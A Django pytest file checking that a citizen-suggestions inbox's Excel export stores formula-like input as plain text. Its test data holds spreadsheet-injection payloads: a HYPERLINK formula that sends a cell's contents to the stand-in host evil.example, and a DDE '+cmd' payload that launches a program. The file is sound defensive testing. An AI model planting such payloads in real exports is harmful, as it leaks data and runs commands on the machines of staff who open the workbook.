"""The inbox's Excel export writes what citizens typed as text: a title, content or
address beginning with "=" (or + - @) never becomes a live formula in staff's workbook."""

from __future__ import annotations

import io

from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from xieshang.conftest import Cast
from xieshang.suggestions.tests.conftest import submit

PLANTED = '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")'


def test_formulas_typed_by_citizens_stay_text_in_the_export(cast: Cast, client: Client) -> None:
    submit(cast, title=PLANTED, content="+cmd|' /C calc'!A0 希望尽快整治", address="@SUM(1,2)")
    client.force_login(cast.staff)
    response = client.get(reverse("suggestions:export"))
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    title, content, place = sheet["B2"], sheet["C2"], sheet["F2"]
    assert (title.data_type, title.value) == ("s", PLANTED)
    assert (content.data_type, content.value) == ("s", "+cmd|' /C calc'!A0 希望尽快整治")
    assert place.data_type == "s" and place.value.endswith("@SUM(1,2)")
    assert title.quotePrefix and content.quotePrefix
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
